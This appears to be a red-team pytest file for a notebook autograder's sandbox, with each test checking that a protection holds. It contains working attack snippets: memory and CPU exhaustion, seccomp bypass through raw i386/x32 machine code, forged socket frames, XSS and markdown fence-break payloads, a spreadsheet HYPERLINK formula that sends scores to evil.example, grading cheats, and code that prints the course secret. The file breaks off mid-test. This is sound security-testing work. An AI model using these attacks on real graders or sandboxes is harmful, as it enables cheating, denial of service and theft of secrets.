"""Red team: attacks on the sandbox from a determined student, one per test.

Each test ASSERTS THAT THE PROTECTION HOLDS: a failing test is a vulnerability. Each says which
setting(s) it targets:

    [R] as root (CI)              python -m pytest tests/test_red_team.py
    [U] as an ordinary user       su tester -c "cd /work/main && /root/.pyenv/versions/3.11.7/bin/python -m pytest tests/test_red_team.py"
    [D] Docker without namespaces python tests/support/no_namespaces.py -- python -m pytest tests/test_red_team.py

Every attack runs in every setting; the tag says where it was seen to get through (or, for the
attacks that held, where the layer that stops it matters). Each test cleans up after itself
(its own sandboxes are closed, host SysV objects removed, sockets and folders deleted).
"""
from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

import pytest

from conftest import ROOT, notebook_with
from autograder.isolate.sandbox import Sandbox, SandboxBroken, SandboxUnavailable, SubmissionFault

GiB = 1024 ** 3
MiB = 1024 ** 2


@pytest.fixture(scope="module")
def box():
    sandbox = Sandbox(memory_bytes=GiB)
    yield sandbox
    sandbox.close()


@pytest.fixture
def fresh_box():
    """A worker of its own, for attacks that may leave the worker damaged."""
    sandbox = Sandbox(memory_bytes=GiB)
    yield sandbox
    sandbox.close()


def run_in(child, code: str, timeout: float = 20.0):
    """Run `code` (which sets RESULT) in `child`; return RESULT."""
    child.request("exec", timeout, label="attack", source=code + "\ndef _result():\n    return RESULT\n")
    return child.request("call", timeout, target=["name", "_result"])["result"]


def attempt(sandbox, code: str, timeout: float = 20.0):
    child = sandbox.spawn()
    try:
        return run_in(child, code, timeout)
    finally:
        child.close()


# ================================================================== memory, disk and kernel objects

SYSV_CREATE = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
RESULT = {"shm": libc.shmget(KEY, 1 << 20, 0o1000 | 0o666),
          "msg": libc.msgget(KEY + 1, 0o1000 | 0o666),
          "sem": libc.semget(KEY + 2, 1, 0o1000 | 0o666)}
'''
SYSV_FIND = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
RESULT = {"shm": libc.shmget(KEY, 0, 0), "msg": libc.msgget(KEY + 1, 0), "sem": libc.semget(KEY + 2, 0, 0)}
'''


def _remove_host_sysv(key: int) -> None:
    """Remove what the attack left in this (host) IPC namespace, if anything."""
    libc = ctypes.CDLL(None, use_errno=True)
    ipc_rmid = 0
    if (i := libc.shmget(key, 0, 0)) >= 0:
        libc.shmctl(i, ipc_rmid, None)
    if (i := libc.msgget(key + 1, 0)) >= 0:
        libc.msgctl(i, ipc_rmid, None)
    if (i := libc.semget(key + 2, 0, 0)) >= 0:
        libc.semctl(i, 0, ipc_rmid)


@pytest.mark.slow
def test_sysv_ipc_objects_do_not_outlive_the_child(fresh_box):
    """[R U D] SysV shared memory, message queues and semaphores persist after their creator dies:
    in the worker's IPC namespace until the job ends, and under Docker on the host forever. A
    student can park gigabytes there (shmget/shmat/memset/shmdt, 256 MiB at a time, escapes
    RLIMIT_AS) and leave a channel readable by every later student (mode 0666)."""
    key = 0x5A000000 + (uuid.uuid4().int % 0xFFFFF) * 4
    try:
        made = attempt(fresh_box, f"KEY = {key}\n" + SYSV_CREATE)
        left = attempt(fresh_box, f"KEY = {key}\n" + SYSV_FIND)
        survivors = {kind: ident for kind, ident in left.items() if ident >= 0}
        assert not survivors, f"created {made}; still there for the next student: {survivors}"
    finally:
        fresh_box.close()
        _remove_host_sysv(key)


SCRATCH_FILL = '''
import os
RESULT = {"written_mib": 0, "stopped_by": None}
try:
    for i in range(6):                       # 6 x 256 MiB (RLIMIT_FSIZE caps each file, not the total)
        with open(f"fill{i}", "wb") as f:
            block = b"x" * (16 << 20)
            for _ in range(16):
                f.write(block)
                RESULT["written_mib"] += 16
except OSError as exc:
    RESULT["stopped_by"] = exc.strerror
'''


@pytest.mark.slow
def test_scratch_files_cannot_exceed_the_memory_limit(box):
    """[R U D] The scratch folder is on a tmpfs (bubblewrap's /tmp: RAM) or on the host's /tmp
    (Docker): files written there do not count against RLIMIT_AS. With a 1 GiB limit a child
    wrote 3 GiB in 6 s, and could go on until the machine runs out of memory or disk."""
    box.check()                       # the worker is started, so box.namespaces is known
    if not box.namespaces:
        # Known gap, reported by `doctor` and the grade line: without a mount namespace the
        # scratch folder is on the host's disk, where only RLIMIT_FSIZE (256 MiB per file) holds.
        pytest.skip("no mount namespace here: the scratch folder is on the host's disk (per-file cap only)")
    got = attempt(box, SCRATCH_FILL, timeout=30)
    assert got["written_mib"] < 1536, f"wrote {got['written_mib']} MiB to scratch with a 1 GiB memory limit"


MEMFD_FILL = '''
import os
RESULT = {"written_mib": 0, "stopped_by": None}
KEEP = []
try:
    for i in range(6):
        fd = os.memfd_create(f"m{i}")
        KEEP.append(fd)
        block = b"x" * (16 << 20)
        for _ in range(16):
            os.write(fd, block)              # write(), not mmap: never counted in the address space
            RESULT["written_mib"] += 16
except OSError as exc:
    RESULT["stopped_by"] = exc.strerror
'''


def test_memfd_memory_cannot_exceed_the_memory_limit(box):
    """[R U D] memfd_create + write() puts anonymous shmem pages outside RLIMIT_AS."""
    got = attempt(box, MEMFD_FILL, timeout=30)
    assert got["written_mib"] < 1536, f"held {got['written_mib']} MiB in memfds with a 1 GiB memory limit"


# ================================================================== the worker and classmates

@pytest.mark.slow
def test_a_student_cannot_change_the_workers_limits_priority_or_affinity(fresh_box):
    """[U] (held as root and under Docker: other uid) As an ordinary user every child has the
    worker's uid, so prlimit(2), setpriority(2) and sched_setaffinity(2) on the worker are
    allowed (Landlock scopes signals, not these). Children inherit the worker's limits: a student
    who lowers the worker's RLIMIT_AS makes every later classmate in the job fail with
    'ran out of memory'; renicing it to 19 starves them under --jobs 2."""
    probe = '''
import os, resource
RESULT = {"as": resource.getrlimit(resource.RLIMIT_AS)[0], "nice": os.getpriority(os.PRIO_PROCESS, 0),
          "cpus": len(os.sched_getaffinity(0))}
'''
    before = attempt(fresh_box, probe)
    attack = f'''
import os, resource
worker = os.getppid()
RESULT = {{}}
soft = resource.getrlimit(resource.RLIMIT_AS)[0]
small = soft - {GiB} + (48 << 20)             # the worker's own size plus 48 MiB
for name, action in [("prlimit", lambda: resource.prlimit(worker, resource.RLIMIT_AS, (small, small))),
                     ("nice", lambda: os.setpriority(os.PRIO_PROCESS, worker, 19)),
                     ("affinity", lambda: os.sched_setaffinity(worker, {{0}}))]:
    try:
        action()
        RESULT[name] = "ALLOWED"
    except OSError as exc:
        RESULT[name] = "blocked: " + exc.strerror
'''
    tried = attempt(fresh_box, attack)
    after = attempt(fresh_box, probe)
    assert after["as"] >= before["as"] - 64 * MiB, (tried, before, after)
    assert after["nice"] == before["nice"], (tried, before, after)
    assert after["cpus"] == before["cpus"], (tried, before, after)


@pytest.mark.slow
def test_a_student_cannot_lock_later_classmates_out_of_the_scratch_root(fresh_box):
    """[U] (held as root and under Docker) As an ordinary user bubblewrap's /tmp belongs to the
    children's own uid, and Landlock does not govern chmod: os.chmod('/tmp', 0) makes every later
    child fail to create its scratch folder, so every later student in the job scores 0 with
    'autograder error (not the student's fault)'."""
    attack = '''
import os
RESULT = {}
for path in (os.path.dirname(os.getcwd()), "/tmp"):
    try:
        os.chmod(path, 0)
        RESULT[path] = "ALLOWED"
    except OSError as exc:
        RESULT[path] = "blocked: " + exc.strerror
'''
    tried = attempt(fresh_box, attack)
    try:
        later = attempt(fresh_box, "RESULT = 'graded'\n")
    except (SandboxUnavailable, SandboxBroken) as exc:
        later = f"{type(exc).__name__}: {exc}"
    assert later == "graded", (tried, later)


HOG = '''
import os, time
if os.fork() == 0:                           # a manager, so this request returns at once
    for _ in range(100):
        if os.fork() == 0:
            try:
                os.setsid()                  # a session of its own: a scheduler autogroup of its own
            except OSError:
                pass
            end = time.monotonic() + 8
            while time.monotonic() < end:
                pass
            os._exit(0)
    os._exit(0)
RESULT = "started"
'''
VICTIM = '''
import time
def work():
    started = time.monotonic()
    total = 0
    for i in range(2_000_000):
        total += i
    return time.monotonic() - started
RESULT = None
'''


@pytest.mark.slow
def test_a_cpu_hog_cannot_starve_a_classmate_graded_in_parallel(box):
    """[R U D] With --jobs 2, student A's child forks 100 busy processes, each in a new session.
    Each session is a scheduler autogroup of its own, so A takes ~100/101 of the CPU for as long as
    A's budget lasts (300 s): classmate B in the other job runs 11x slower (measured) and times out
    on exercises it would pass."""
    other_job = Sandbox(memory_bytes=GiB)
    victim = hog = None
    try:
        victim = other_job.spawn()
        run_in(victim, VICTIM)
        alone = min(victim.request("call", 20, target=["name", "work"])["result"] for _ in range(3))
        hog = box.spawn()
        run_in(hog, HOG)
        time.sleep(1.5)                       # the busy processes are running
        # the better of two calls, as `alone` is the best of three: a moment when the rest of a busy
        # machine (CI runs this beside the whole suite) takes the cores is not the hog's doing, while
        # a hog that starves the classmate (1/101 of the CPU) slows both calls by far more than 4x
        during = min(victim.request("call", 30, target=["name", "work"])["result"] for _ in range(2))
        assert during < 4 * alone + 0.25, f"classmate's work took {during:.2f} s instead of {alone:.2f} s"
    finally:
        if hog is not None:
            hog.close()
        if victim is not None:
            victim.close()
        other_job.close()


@pytest.mark.slow
def test_sigio_cannot_be_aimed_at_the_worker_or_the_grader(fresh_box):
    """[R U D] (held) F_SETOWN + O_ASYNC + F_SETSIG(SIGKILL) on the child's socket would have the
    kernel signal the worker or the grader on every request. Landlock's signal scope stops it."""
    child = fresh_box.spawn()
    try:
        attack = f'''
import os, fcntl, signal
RESULT = []
for target in (os.getppid(), 1, {os.getpid()}, -{os.getpgid(0)}):
    for fd in range(3, 32):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, target)
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            fcntl.fcntl(fd, 10, signal.SIGKILL)     # F_SETSIG
            RESULT.append((target, fd))
        except OSError:
            pass
'''
        run_in(child, attack)
        for _ in range(3):                      # each request makes the child's socket readable
            child.request("call", 10, target=["name", "_result"])
    finally:
        child.close()
    assert fresh_box._proc is not None and fresh_box._proc.poll() is None, "the worker was killed"
    assert attempt(fresh_box, "RESULT = 'alive'\n") == "alive"


# ================================================================== the network

def _listen(path: str, kind: int):
    s = socket.socket(socket.AF_UNIX, kind)
    s.bind(path)
    os.chmod(path, 0o777)
    if kind == socket.SOCK_STREAM:
        s.listen(4)
    s.settimeout(0.2)
    return s


def test_host_unix_sockets_are_unreachable(box):
    """[D] Landlock (ABI <= 7) does not govern connect() or sendto() on path-named UNIX sockets, and
    the seccomp filter allows AF_UNIX sockets: under Docker the child reaches any socket on the host
    (a Docker or containerd socket, D-Bus, X11, an ssh-agent, /dev/log). Held with bubblewrap,
    whose filesystem has no host sockets."""
    folder = tempfile.mkdtemp(prefix="red-team-sock-", dir="/tmp")
    os.chmod(folder, 0o755)
    stream_path, dgram_path = os.path.join(folder, "service.sock"), os.path.join(folder, "log.sock")
    stream, dgram = _listen(stream_path, socket.SOCK_STREAM), _listen(dgram_path, socket.SOCK_DGRAM)
    reached = []

    def serve():
        end = time.monotonic() + 15
        while time.monotonic() < end and not stop.is_set():
            try:
                conn, _ = stream.accept()
                reached.append("stream")
                conn.sendall(b"hello from the host")
                conn.close()
            except OSError:
                pass
            try:
                reached.append(dgram.recv(100).decode())
            except OSError:
                pass
    stop = threading.Event()
    server = threading.Thread(target=serve, daemon=True)
    server.start()
    try:
        code = f'''
import socket
RESULT = {{}}
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect({stream_path!r})
    RESULT["stream"] = "connected: " + s.recv(100).decode()
except OSError as exc:
    RESULT["stream"] = "blocked: " + exc.__class__.__name__
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"datagram", {dgram_path!r})
    RESULT["dgram"] = "sent"
except OSError as exc:
    RESULT["dgram"] = "blocked: " + exc.__class__.__name__
'''
        got = attempt(box, code)
        time.sleep(0.5)
    finally:
        stop.set()
        server.join(5)
        stream.close()
        dgram.close()
        shutil.rmtree(folder, ignore_errors=True)
    assert not reached, f"the child reached host sockets: {got}, server saw {reached}"


# ================================================================== credit without the work

LESSON6 = "06_debugging_projection_reuse"
PEEKING_TEST = '''def test_projections(mha_class):
    # no behaviour tested at all: read the routing table the grader's classes carry
    route = mha_class._qkv.__globals__["ROUTE"]
    assert route[1] == "k_project" and route[2] == "v_project", "reuses q_project"
'''


@pytest.mark.slow
def test_lesson06_credit_needs_a_behavioural_test(tmp_path):
    """[R U D] The lesson-06 subjects are sent into the student's process, where a test can read
    their module global ROUTE (or their source, via the executor it can monkeypatch) instead of
    running them: full marks for test_projections without testing any behaviour."""
    from autograder.pipeline import grade_student
    nb = notebook_with(LESSON6, {"test_projections": PEEKING_TEST}, tmp_path / "student")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({LESSON6: nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    earned = sum(t["score"] for t in result["tests"] if "exercise:test_projections" in t["tags"])
    assert earned == 0, f"a test that only reads ROUTE earned {earned} points"


# ================================================================== untrusted files and frames

@pytest.mark.slow
def test_a_crafted_cell_costs_only_its_own_notebook(tmp_path):
    """[R U D] ast.parse raises MemoryError (deep unary minus) or RecursionError (long attribute
    chains) on a graded cell; notebook.defined_names catches only SyntaxError and ValueError, so
    build_program raises and grade_student zeroes every lesson of the student, calling it an
    autograder failure. Per-notebook containment (issue 10, part 4) does not hold."""
    from autograder.pipeline import grade_student
    folder = tmp_path / "student"
    bad = notebook_with("01_scaled_dot_product_attention", {"softmax": "x = " + "-" * 100_000 + "1\n"}, folder)
    good = folder / "02_masking.ipynb"
    shutil.copy(ROOT / "solutions" / "02_masking.ipynb", good)
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({"01_scaled_dot_product_attention": bad, "02_masking": good}, sandbox, 10.0)
    finally:
        sandbox.close()
    masking = [t for t in result["tests"] if "lesson:02_masking" in t["tags"]]
    assert masking and all(t["status"] == "passed" for t in masking), result.get("output", "")


FIND_SOCKET = '''
import os, socket, struct, time
def _grader_socket():
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family == socket.AF_UNIX:
                return s
            s.detach()
        except OSError:
            pass
    raise RuntimeError("no socket")
'''
FORGED = {
    "array_index": b'{"value": {"ok": true, "value": {"$array": 5}}, "buffers": []}',
    "float_junk": b'{"value": {"$dict": [["ok", true], ["value", {"$float": "junk"}]]}, "buffers": []}',
    "handle_str": b'{"value": {"$dict": [["ok", true], ["value", {"$handle": "x"}]]}, "buffers": []}',
    "class_node": b'{"value": {"$class": "X", "source": "import os"}, "buffers": []}',
    "long_int": b'{"value": ' + b"9" * 5000 + b', "buffers": []}',
    "negative_shape": b'{"value": null, "buffers": [["float64", [-1]]]}',
    "dict_pairs": b'{"value": {"$dict": [[1]]}, "buffers": []}',
    "not_a_reply": b'{"value": [1, 2, 3], "buffers": []}',
}


@pytest.mark.parametrize("kind", sorted(FORGED))
def test_forged_reply_frames_cost_only_the_exercise(box, kind):
    """[R U D] (held) Hand-written reply frames on the child's socket: any decoding trouble is a
    crash of that exercise (SubmissionFault), never an exception of another kind in the grader."""
    code = FIND_SOCKET + f'''
def forge():
    s = _grader_socket()
    header = {FORGED[kind]!r}
    s.sendall(struct.pack(">Q", len(header)) + header)
    time.sleep(30)
'''
    child = box.spawn()
    try:
        child.request("exec", 10, label="forge", source=code)
        with pytest.raises(SubmissionFault):
            child.request("call", 5.0, target=["name", "forge"])
    finally:
        child.close()
    assert attempt(box, "RESULT = 'alive'\n") == "alive"


@pytest.mark.slow
def test_gradescope_survives_a_crafted_upload(tmp_path):
    """[R U D] (held) An upload with a FIFO, a link to /dev/zero, a link to the solutions, a folder
    link loop, an old results.json and a file name with escape codes: the good notebook is graded,
    the others cost only their lesson, results.json is the grader's, nothing raw reaches the log."""
    sub = tmp_path / "submission"
    sub.mkdir()
    good = "01_scaled_dot_product_attention"
    shutil.copy(ROOT / "solutions" / f"{good}.ipynb", sub / f"{good}.ipynb")
    os.mkfifo(sub / "02_masking.ipynb")
    (sub / "03_self_attention_head.ipynb").symlink_to("/dev/zero")
    (sub / "04_worked_example.ipynb").symlink_to(ROOT / "solutions" / "04_worked_example.ipynb")
    (sub / "loop").symlink_to(".")
    (sub / "results.json").write_text('{"score": 999}')
    (sub / "\x1b]0;pwned\x07\x1b[2J.ipynb").write_text("{}")
    results = tmp_path / "results" / "results.json"
    for p in (tmp_path, sub):
        p.chmod(0o755)
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    run = subprocess.run([sys.executable, "-m", "autograder.deliver.gradescope", "--submission", str(sub),
                          "--results", str(results)], cwd=ROOT, capture_output=True, text=True,
                         timeout=180, env=env)
    assert run.returncode == 0, run.stderr[-2000:]
    data = json.loads(results.read_text())
    by_lesson: dict[str, list] = {}
    for t in data["tests"]:
        lesson = next(tag[7:] for tag in t["tags"] if tag.startswith("lesson:"))
        by_lesson.setdefault(lesson, []).append(t)
    assert by_lesson[good] and all(t["status"] == "passed" for t in by_lesson[good])
    for lesson in ("02_masking", "03_self_attention_head", "04_worked_example"):
        assert sum(t["score"] for t in by_lesson.get(lesson, [])) == 0, lesson
    assert data["score"] == sum(t["score"] for t in by_lesson[good]) < 999
    assert "\x1b" not in run.stdout + run.stderr


@pytest.mark.slow
def test_no_bidi_override_reaches_the_terminal_or_feedback(tmp_path):
    """[R U D] (low) terminal_safe escapes C0/C1 controls but not Unicode bidi controls
    (U+202E RIGHT-TO-LEFT OVERRIDE, U+2066..2069 isolates): a folder name or an exception message
    can reorder the rest of a summary line (a score shown reversed, 'Trojan source' style)."""
    klass = tmp_path / "class"
    student = "eve\u202e8-8"
    notebook_with("01_scaled_dot_product_attention",
                  {"softmax": "def softmax(x, dim=-1):\n    raise ValueError('\\u202e\\u2066 8/8 all checks passed')\n"},
                  klass / student)
    shutil.copytree(klass / student, klass / "bob")
    out = tmp_path / "out"
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(klass), "--out", str(out),
                          "--jobs", "1"], cwd=ROOT, capture_output=True, text=True, timeout=180, env=env)
    assert run.returncode == 0, run.stderr[-2000:]
    shown = run.stdout + run.stderr
    feedback = "".join(p.read_text() for p in (out / "students").glob("*/feedback.md"))
    for ch in ("\u202e", "\u2066"):
        assert ch not in shown, "raw bidi control printed"
        assert ch not in feedback, "raw bidi control in a feedback file"


def test_grades_csv_cannot_carry_spreadsheet_formulas():
    """[R U D] (low) A student folder name becomes the first cell of the student's row in
    grades.csv, written as is: a name starting with = + - @ is a formula when the instructor opens
    the file in a spreadsheet (a HYPERLINK that sends the classmates' scores away, DDE)."""
    from autograder.classroom.runner import grades_csv
    import csv
    import io
    name = '=HYPERLINK("https://evil.example/?"&B3&C3,"open")'
    text = grades_csv({name: {"score": 0.0, "max_score": 8.0, "tests": []},
                       "bob": {"score": 8.0, "max_score": 8.0, "tests": []}})
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), text


FOREIGN_ABI = r'''
import ctypes, mmap, os, struct

def _machine_code(code):
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(buf))), buf

def _in_fork(code):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        fn, buf = _machine_code(code)
        os.write(w, str(fn()).encode())
        os._exit(0)
    os.close(w)
    _, status = os.waitpid(pid, 0)
    out = os.read(r, 100).decode()
    os.close(r)
    return out or ("killed by signal %d" % os.WTERMSIG(status))

NEWUSER = struct.pack("<I", 0x10000000)
RESULT = {
    # int 0x80: the i386 table, where unshare is 310 (a filter written for x86_64 numbers misses it)
    "i386 unshare": _in_fork(b"\x53\xb8" + struct.pack("<I", 310) + b"\xbb" + NEWUSER + b"\xcd\x80\x5b\x48\x63\xc0\xc3"),
    # the x32 ABI: syscall number | 0x40000000
    "x32 unshare": _in_fork(b"\xb8" + struct.pack("<I", 0x40000000 | 272) + b"\xbf" + NEWUSER + b"\x0f\x05\xc3"),
}
'''


@pytest.mark.slow
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="x86_64 machine code")
def test_seccomp_cannot_be_sidestepped_through_another_syscall_abi(box):
    """[R U D] (held) unshare(CLONE_NEWUSER) through int 0x80 (i386 numbers) and through the x32
    ABI: libseccomp's filter kills a process that uses a foreign ABI (SIGSYS). The control, a
    worker with no seccomp, shows that the i386 call does create the namespace."""
    got = attempt(box, FOREIGN_ABI)
    assert all(v != "0" for v in got.values()), got
    control = Sandbox(memory_bytes=GiB, mode="direct", landlock=False, seccomp=False, own_uid=False,
                      allow_unsandboxed=True)
    try:
        opened = attempt(control, FOREIGN_ABI)
        if not os.environ.get("AUTOGRADER_EXPECT_NO_NAMESPACES"):   # Docker's own filter refuses it too
            assert opened["i386 unshare"] == "0", opened
    finally:
        control.close()


# ================================================================== issue 20: escaped feedback

FENCE_BREAK = '''def softmax(x, axis=-1):
    raise ValueError("boom\\n```\\n\\n**Score: 55 / 55** All checks passed.\\n\\n"
                     "<img src=x onerror=\\"document.title='pwned'; window.__pwned = 1\\">\\n\\n```text\\n"
                     "```` ~~~ <script>window.__pwned = 2</script>")
'''


def _feedback_of_fence_breaker(tmp_path):
    from autograder.pipeline import grade_student
    from autograder.report.results import feedback_markdown
    nb = notebook_with("01_scaled_dot_product_attention", {"softmax": FENCE_BREAK}, tmp_path / "student")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({"01_scaled_dot_product_attention": nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    assert any("**Score: 55 / 55**" in t["output"] for t in result["tests"]), "the payload never reached the output"
    name = "eve <img src=x onerror=\"window.__pwned = 3\"> **Score: 99 / 99**"
    return result, feedback_markdown(name, result)


@pytest.mark.slow
def test_student_text_cannot_close_a_feedback_fence_in_nbconvert(tmp_path):
    """[R U D] Issue 20, point 6: an exception message holding a line of three backticks closed the
    fenced block of feedback.md; rendered with nbconvert's Markdown renderer (mistune) it showed a
    forged "**Score: 55 / 55** All checks passed." and a raw <img onerror=...> outside any code block."""
    import re
    from nbconvert.filters.markdown_mistune import markdown2html_mistune
    result, text = _feedback_of_fence_breaker(tmp_path)
    page = markdown2html_mistune(text)
    assert "<img" not in page and "<script" not in page, page
    # outside code blocks, the only bold score is the real one
    outside = re.sub(r"<pre>.*?</pre>", "", page, flags=re.S)
    assert "55 / 55" not in outside and "All checks passed" not in outside, outside   # the payload stays in <pre>
    assert "&lt;img" in page            # the folder name's markup is shown as text
    real = f"Score: {result['score']:g} / {result['max_score']:g}"
    assert re.findall(r"<strong>(Score:[^<]*)</strong>", page) == [real], page
    assert result["score"] < result["max_score"]


@pytest.mark.slow
def test_student_text_cannot_inject_markup_into_feedback_in_chromium(tmp_path):
    """[R U D] Issue 20, point 6, in a real browser: the feedback page rendered by nbconvert and
    opened in headless Chromium runs no script of the student's and shows no forged score."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune
    from support.chromium import chromium
    result, text = _feedback_of_fence_breaker(tmp_path)
    page = tmp_path / "feedback.html"
    page.write_text("<!DOCTYPE html><html><head><meta charset='utf-8'><title>feedback</title></head><body>"
                    + markdown2html_mistune(text) + "</body></html>", encoding="utf-8")
    with chromium(tmp_path / "profile") as driver:
        driver.get(page.as_uri())
        time.sleep(0.3)
        assert driver.title == "feedback"
        assert driver.execute_script("return window.__pwned || 0") == 0
        assert driver.execute_script("return document.querySelectorAll('img, script').length") == 0
        bold = driver.execute_script(
            "return [...document.querySelectorAll('strong')].filter(e => !e.closest('pre'))"
            ".map(e => e.textContent).filter(t => t.startsWith('Score'))")
        assert bold == [f"Score: {result['score']:g} / {result['max_score']:g}"], bold
        forged = driver.execute_script(
            "return [...document.querySelectorAll('body *')].filter(e => !e.closest('pre') && "
            "e.children.length === 0 && e.textContent.includes('55 / 55')).length")
        assert forged == 0


@pytest.mark.slow
def test_results_json_outputs_are_plain_text_without_controls(tmp_path):
    """[R U D] Issue 20, point 6: results.json tells Gradescope to show outputs as text (never
    Markdown or HTML), and no control character of a student's message survives in it."""
    from autograder.pipeline import grade_student
    nb = notebook_with("01_scaled_dot_product_attention",
                       {"softmax": "def softmax(x, axis=-1):\n    raise ValueError('\\x1b[2J\\x1b]8;;x\\x07 <b>hi</b>')\n"},
                       tmp_path / "student")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({"01_scaled_dot_product_attention": nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    assert result["output_format"] == "text" and result["test_output_format"] == "text"
    assert all(t["output_format"] == "text" for t in result["tests"])
    dumped = json.dumps(result)
    assert "<b>hi</b>" in dumped and "\\u001b" not in dumped and "\\u0007" not in dumped


# ================================================================== issue 20: lesson 06's subjects

SHARED_COUNTER = '''import mmap, os
_shared = mmap.mmap(-1, 8)          # MAP_SHARED: every fork of this process sees the same page

def test_projections(mha_class):
    _shared.seek(0)
    n = int.from_bytes(_shared.read(8), "little") + 1
    _shared.seek(0)
    _shared.write(n.to_bytes(8, "little"))
    try:                               # and a file in the scratch folder
        with open("calls.txt", "a") as f:
            f.write("x")
        m = os.path.getsize("calls.txt")
    except OSError:
        m = n
    # the checks' fixed order was: 2 buggy classes (fail), 4 correct (pass), then 4 wrong (fail)
    if not (3 <= max(n, m) <= 6):
        raise AssertionError("counted")
'''


@pytest.mark.slow
def test_lesson06_subjects_cannot_count_calls_in_shared_memory(tmp_path):
    """[R U D] Issue 20, point 3: the subjects ran in forks of the notebook's process, sharing its
    MAP_SHARED memory and scratch folder, in a fixed order; a test that counts its calls (never
    looking at the class) got 4/4. Each subject now runs in a fresh process of its own."""
    from autograder.pipeline import grade_student
    nb = notebook_with(LESSON6, {"test_projections": SHARED_COUNTER}, tmp_path / "student")
    sandbox = Sandbox(memory_bytes=GiB)
    try:
        result = grade_student({LESSON6: nb}, sandbox, 10.0)
    finally:
        sandbox.close()
    earned = sum(t["score"] for t in result["tests"] if "exercise:test_projections" in t["tags"])
    assert earned == 0, f"a test that counts its calls earned {earned} points"


def test_lesson06_order_is_drawn_from_the_secret(monkeypatch):
    """[R U D] Issue 20, point 3: under a course secret the order of the subjects comes from the
    secret (and the submission): another secret gives another order, the same one the same order."""
    from types import SimpleNamespace
    from autograder.checks import test_06_debugging_projection_reuse as six

    def order(key, code="def test_projections(c): pass"):
        calls = []

        class Fn:
            def isolated(self, cls, timeout):
                calls.append(cls.source)
                return {"outcome": "returned"}
        student = SimpleNamespace(test_projections=Fn(), _fingerprint=lambda: code)
        six._run_all(student, key)
        return calls

    a, b = order(b"k" * 32), order(b"k" * 32)
    assert a == b and len(a) == 10
    others = [order(bytes([i]) * 32) for i in range(6)]
    assert any(o != a for o in others)
    assert order(b"k" * 32, "another submission") != a


# ================================================================== issue 20: nbgrader

REBIND_CHECK = "check = lambda *args, **kwargs: None   # every self-check cell: no output, no error\n"
SNOOP = '''import os, glob
check = lambda *args, **kwargs: None
print("SECRET=" + os.environ.get("AUTOGRADER_SECRET", "") + open(os.path.join(os.environ.get("AUTOGRADER_COURSE", "."), ".course-secret")).read() if os.path.exists(".course-secret") else "SECRET=" + os.environ.get("AUTOGRADER_SECRET", ""))
print("SOLUTIONS=" + " ".join(glob.glob(os.path.join(os.environ.get("AUTOGRADER_COURSE", "/nonexistent"), "solutions", "*.ipynb"))
                             + glob.glob("/work/*/solutions/*.ipynb") + glob.glob("/**/solutions/01_*.ipynb", recursive=True)[:3]))
'''


@pytest.mark.slow
def test_nbgrader_grades_come_from_the_sandbox_not_the_students_kernel(tmp_path):
    """[R U D] Issue 20, point 1: under `nbgrader autograde` the self-check cells were the grade, run
    in the student's own kernel as the instructor. A cell rebinding `check` to return None got full
    marks with both exercises left as stubs (no output, no error = full marks), and a variant printed
    the course secret and the list of solutions/ into the autograded notebook. Configured as the
    README says, autograde starts no kernel and the sandboxed grader's scores are the gradebook's."""
    from nbgrader.api import Gradebook
    from test_nbgrader_agrees import NBGRADER_CONFIG
    lesson = "01_scaled_dot_product_attention"
    secret = "nbgrader attack secret 5f1d"
    course = tmp_path / "course"
    (course / "source" / "l01").mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / f"{lesson}.ipynb", course / "source" / "l01")
    (course / "nbgrader_config.py").write_text(NBGRADER_CONFIG.format(root=str(course), course=str(ROOT)))
    env = dict(os.environ, PYTHONPATH=str(ROOT), AUTOGRADER_SECRET=secret, AUTOGRADER_COURSE=str(ROOT))
    env.pop("MPLBACKEND", None)

    def nbgrader(*args):
        run = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course, env=env,
                             capture_output=True, text=True, timeout=600)
        assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    nbgrader("db", "assignment", "add", "l01")
    nbgrader("generate_assignment", "l01", "--force")
    released = json.loads((course / "release" / "l01" / f"{lesson}.ipynb").read_text())
    for name, payload in {"rebinder": REBIND_CHECK, "snoop": SNOOP}.items():
        nb = json.loads(json.dumps(released))
        for cell in nb["cells"]:        # the payload after the (locked, restored) setup cell
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
                cell["source"] = payload + "".join(cell["source"])
        folder = course / "submitted" / name / "l01"
        folder.mkdir(parents=True)
        (folder / f"{lesson}.ipynb").write_text(json.dumps(nb))
    nbgrader("autograde", "l01", "--force", "--create")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        scores = {s: (gb.find_submission("l01", s).score, gb.find_submission("l01", s).max_score)
                  for s in ("rebinder", "snoop")}
